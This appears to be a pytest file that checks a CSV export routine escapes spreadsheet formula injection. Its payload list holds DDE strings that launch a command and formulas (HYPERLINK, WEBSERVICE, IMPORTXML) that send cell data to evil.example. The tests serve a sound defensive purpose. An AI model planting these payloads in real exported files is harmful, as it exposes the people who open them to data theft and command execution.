"""Bar 19: no cell of a file comes alive in a spreadsheet, and every value comes back."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.core.csv_export import FORMULA_STARTS, csv_lines, escape_formula

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    '=WEBSERVICE("https://evil.example/"&A2)',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@import",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "  +1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '="x"',
    "==1",
    '=DDE("cmd";"/C calc";"x")',
    "-",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_stays_a_text(payload: str) -> None:
    [[cell]] = list(csv.reader(io.StringIO(b"".join(csv_lines(["h"], [[payload]])).decode(), newline="")))[1:]
    assert cell == f"'{payload}"


@pytest.mark.parametrize("text", ["", "Robin Aster", "5 - 3", "a=b", "me@example.org", "'quoted", "Ünï", "1,5"])
def test_what_is_harmless_is_left_alone(text: str) -> None:
    assert escape_formula(text) == text


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8"), max_size=20), min_size=2, max_size=2), max_size=5))
def test_any_text_survives_csv_and_none_starts_a_formula(rows: list[list[str]]) -> None:
    file = b"".join(csv_lines(["a", "b"], rows)).decode()
    read = list(csv.reader(io.StringIO(file, newline="")))
    assert read == [["a", "b"], *([escape_formula(cell) for cell in row] for row in rows)]
    assert not [cell for row in read[1:] for cell in row if cell.startswith(FORMULA_STARTS)]


def test_lines_end_in_crlf_and_values_are_iso_8601() -> None:
    row = [True, False, None, 7, date(2026, 3, 1), datetime(2026, 3, 1, 9, 30, tzinfo=UTC), 'say "hi", please']
    file = b"".join(csv_lines(["x"] * 7, [row])).decode()
    assert file.splitlines(keepends=True)[1] == (
        'true,false,,7,2026-03-01,2026-03-01T09:30:00Z,"say ""hi"", please"\r\n'
    )


def test_many_rows_come_in_pieces() -> None:
    pieces = list(csv_lines(["n"], ([number] for number in range(1_000))))
    assert len(pieces) == 6
    assert b"".join(pieces).count(b"\r\n") == 1_001
